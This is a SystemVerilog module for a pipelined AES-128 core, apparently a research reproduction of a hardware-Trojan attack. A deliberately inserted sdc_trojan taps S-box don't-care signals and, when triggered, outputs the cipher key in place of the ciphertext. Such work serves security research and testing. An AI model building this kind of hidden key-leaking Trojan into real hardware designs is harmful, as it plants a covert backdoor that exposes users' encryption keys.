// aes128_pipe: fully pipelined AES-128 encryption core infected with an
// SDC Trojan.
//
// Stage 0 registers plaintext XOR key; stages 1..10 are aes_round
// instances, each computing its round key from the previous one, so a new
// block (and even a new key) can enter every cycle. in_valid travels with
// the data; the ciphertext appears on ct with out_valid AES_ROUNDS+1 = 11
// cycles after the plaintext was presented.
//
// The Trojan (sdc_trojan) taps the don't-care pair of the last-round
// S-box on state byte 0 and registers it alongside the last-round state.
// When it fires, ct carries the cipher key of that block instead of the
// ciphertext. For TROJAN_3, y is bit 0 of that S-box's input byte and x
// the parity of its bits 6..1. Using a fully unrolled one-round-per-stage
// pipeline, this S-box and these x, y signals are this design's choices;
// the attack description only names a pipelined AES-128 core with a
// Trojan hidden in its S-box that leaks the key to the output.
module aes128_pipe
  import xattack_pkg::*;
#(
  parameter trojan_variant_e VARIANT  = TROJAN_2,
  parameter int unsigned     TRIG_BIT = 0
) (
  input  logic         clk,
  input  logic         rst,        // asynchronous, active high (valid bits, Trojan)
  input  logic         in_valid,
  input  logic [127:0] pt,         // plaintext
  input  logic [127:0] key,        // cipher key
  output logic         out_valid,
  output logic [127:0] ct          // ciphertext (or key when the Trojan fires)
);
  localparam int unsigned NR = AES_ROUNDS;

  logic [127:0] state [NR+1];
  logic [127:0] rkey  [NR+1];
  logic [127:0] kpass [NR+1];    // original key carried for the payload
  logic [NR:0]  vld;
  logic [NR:1]  n1_v, n3_v;
  logic [7:0]   sb0_in [NR+1];

  always_ff @(posedge clk) begin
    state[0] <= pt ^ key;
    rkey[0]  <= key;
    kpass[0] <= key;
    for (int r = 1; r <= NR; r++) kpass[r] <= kpass[r-1];
  end

  always_ff @(posedge clk or posedge rst) begin
    if (rst) vld <= '0;
    else     vld <= {vld[NR-1:0], in_valid};
  end

  for (genvar r = 1; r <= NR; r++) begin : g_round
    aes_round #(.ROUND(r), .LAST(r == NR), .TRIG_BIT(TRIG_BIT)) u_round (
      .clk    (clk),
      .state_i(state[r-1]),
      .rkey_i (rkey[r-1]),
      .state_o(state[r]),
      .rkey_o (rkey[r]),
      .sdc_n1 (n1_v[r]),
      .sdc_n3 (n3_v[r]),
      .sb0_in (sb0_in[r])
    );
  end
  assign sb0_in[0] = state[0][127:120];

  sdc_trojan #(.W(128), .VARIANT(VARIANT)) u_trojan (
    .clk (clk),
    .rst (rst),
    .s1  (n1_v[NR]),
    .s2  (n3_v[NR]),
    .x   (^sb0_in[NR][6:1]),
    .y   (sb0_in[NR][0]),
    .o   (state[NR]),
    .f   (kpass[NR]),
    .o_t (ct)
  );

  assign out_valid = vld[NR];
endmodule
